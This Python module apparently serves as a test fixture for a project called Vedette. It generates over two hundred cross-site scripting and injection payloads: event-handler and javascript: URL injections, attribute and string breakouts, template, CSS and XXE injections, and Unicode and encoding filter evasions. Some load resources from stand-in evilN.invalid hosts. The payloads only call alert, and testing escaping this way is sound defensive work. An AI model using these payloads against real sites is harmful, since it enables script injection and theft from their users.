# SPDX-FileCopyrightText: Vedette contributors
# SPDX-License-Identifier: Apache-2.0
"""Texts that would run something, or ask another host for something, where a page took them for markup, an address, a style or a template.

What runs calls `alert` with the payload's number; what asks, asks for a host whose name ends in `.invalid`.
"""

import re
import unicodedata

# What may have to be closed first: an attribute, an element whose text is no markup.
BREAKOUTS = ["", '">', "'></title></style></textarea></script>"]
ELEMENTS = """\
<script>{run}</script>
<script src=//evil{n}.invalid/a.js></script>
<img src=x{n} onerror={run}>
<img src=//evil{n}.invalid/a.png>
<img srcset=x{n} onerror={run}>
<image src=x{n} onerror={run}>
<picture><source srcset=x{n}><img onerror={run}></picture>
<svg onload={run}>
<svg/onload={run}//
<svg><script>{run}</script></svg>
<svg><script href=data:,{run} />
<svg><animate onbegin={run} attributeName=x dur=1s>
<svg><set onbegin={run} attributeName=x to=1>
<svg><a xlink:href=javascript:{run}><text y=20>here</text></a></svg>
<svg><foreignObject><img src=x{n} onerror={run}></foreignObject></svg>
<svg><image href=x{n} onerror={run}>
<svg><style>*{{background:url(//evil{n}.invalid/)}}</style></svg>
<math><mtext><table><mglyph><style><img src=x{n} onerror={run}>
<math href=javascript:{run}>here</math>
<math><annotation-xml encoding=text/html><img src=x{n} onerror={run}>
<iframe srcdoc="<script>parent.{run}</script>"></iframe>
<iframe src=javascript:parent.{run}></iframe>
<iframe onload={run}></iframe>
<object data=javascript:parent.{run}></object>
<object data=x{n} onerror={run}></object>
<embed src=javascript:parent.{run}>
<video src=x{n} onerror={run}></video>
<video><source onerror={run}></video>
<audio src=x{n} onerror={run}>
<details open ontoggle={run}>here</details>
<input autofocus onfocus={run}>
<select autofocus onfocus={run}></select>
<textarea autofocus onfocus={run}></textarea>
<i id=x{n} tabindex=1 autofocus onfocus={run}>here</i>
<a href=javascript:{run}>here</a>
<a href=//evil{n}.invalid/ ping=//evil{n}.invalid/ping>here</a>
<form action=javascript:{run}><button autofocus>here</button></form>
<meta http-equiv=refresh content="0;url=javascript:{run}">
<base href=//evil{n}.invalid/>
<link rel=stylesheet href=//evil{n}.invalid/a.css>
<style>@import "//evil{n}.invalid/a.css";</style>
<style>body{{display:none}}</style>
<p style="animation:x 1s;background:url(//evil{n}.invalid/)" onanimationstart={run}>here</p>
<p style=position:fixed;inset:0 onmouseover={run} onpointermove={run} onclick={run}>here</p>
<marquee onstart={run}>here</marquee>
<body onload={run} onpageshow={run}>
<template><img src=x{n} onerror={run}></template>
<noscript><p title="</noscript><img src=x{n} onerror={run}>">
<img src=x{n} style=display:none onerror=eval(atob("YWxlcnQoMSk="))>
<button popovertarget=x onclick={run}>here</button>""".splitlines()
OTHERS = """\
" onmouseover="{run}
' onfocus='{run}' autofocus='
` onclick=`{run}`
" autofocus tabindex=1 onfocus={run} x="
"><!--
--><img src=x{n} onerror={run}><!--
]]><img src=x{n} onerror={run}>
<![CDATA[<img src=x{n} onerror={run}>]]>
<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">{run}</x:script>
<!DOCTYPE x [<!ENTITY e SYSTEM "http://evil{n}.invalid/">]><x>&e;</x>
javascript:{run}
JaVaScRiPt:{run}
java\tscript:{run}
java\nscript:{run}
\x01javascript:{run}
javascript&colon;{run}
javascript://%0a{run}
vbscript:{run}
data:text/html,<script>{run}</script>
data:image/svg+xml,<svg onload={run}>
//evil{n}.invalid/
https://evil{n}.invalid/picture.png
/live/pictures/../../evil{n}
blob:{run}
{{{{{run}}}}}
{{{{constructor.constructor('{run}')()}}}}
${{{run}}}
#{{{run}}}
<%= {run} %>
{{% {run} %}}
[[{run}]]
@({run})
`${{{run}}}`
red;background:url(//evil{n}.invalid/)
red}}body{{display:none}}*{{color:red
expression({run})
url(javascript:{run})
url("//evil{n}.invalid/")
-moz-binding:url(//evil{n}.invalid/#x)
</style><img src=x{n} onerror={run}>
';{run};//
";{run};//
\\";{run};//
*/{run}/*
',{run},'
"}}],"x":{run}}}
__proto__
constructor
toString
hasOwnProperty
$feature.constructor
&lt;img src=x{n} onerror={run}&gt;
&#60;img src=x{n} onerror={run}&#62;
%3Cimg src=x{n} onerror={run}%3E
\\u003cimg src=x{n} onerror={run}\\u003e
+ADw-img src=x{n} onerror={run}+AD4-
\uff1cimg src=x{n} onerror={run}\uff1e
\u2039script\u203a{run}\u2039/script\u203a
<\u017fcript>{run}</\u017fcript>
<\u0131mg src=x{n} onerror={run}>
\u202e<img src=x{n} onerror={run}>
\u2066<b>{run}</b>\u2069
\ufeff<img src=x{n} onerror={run}>
\u2028{run}
<im\u200bg src=x{n} onerror={run}>
<scr\u00adipt>{run}</script>
\x00<img src=x{n} onerror={run}>
<im\x00g src=x{n} onerror={run}>
<img\x0bsrc=x{n}\x0conerror={run}>
<img/src=x{n}/onerror={run}>
<IMG SRC=x{n} ONERROR={run}>
<<img src=x{n} onerror={run}>>
<img src=x{n} onerror={run}
\u05d0<img src=x{n} onerror={run}>\u05d0
e\u0301\u0301\u0301<img src=x{n} onerror={run}>
\U0001f6e9\ufe0f<img src=x{n} onerror={run}>
\U000e003cimg src=x{n} onerror={run}\U000e003e""".split("\n")


def _all():
    templates = [breakout.replace("{", "{{") + one for breakout in BREAKOUTS for one in ELEMENTS] + OTHERS
    return [template.format(n=n, run=f"alert({n})") for n, template in enumerate(templates)]


PAYLOADS = _all()
assert len(set(PAYLOADS)) == len(PAYLOADS) >= 200
# What files of text take: without control characters.
PRINTABLE = [text for text in PAYLOADS if not re.search("[\x00-\x1f]", text)]
assert len(PRINTABLE) >= 200


def shown(text, limit):
    """How the page shows a foreign text: without control characters and those that turn the direction, white space joined, at most so many characters."""
    text = re.sub("[\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]", "", re.sub("[\x00-\x1f\x7f-\x9f\u2028\u2029]+", " ", text))
    text = re.sub(r"\s+", " ", text).strip()
    return text if len(text) <= limit else text[:limit - 1].rstrip() + "…"


def same(text):
    """For comparison: the page and Python need not agree about the invisible."""
    return "".join(one for one in unicodedata.normalize("NFC", text) if unicodedata.category(one) not in ("Cf", "Cn"))
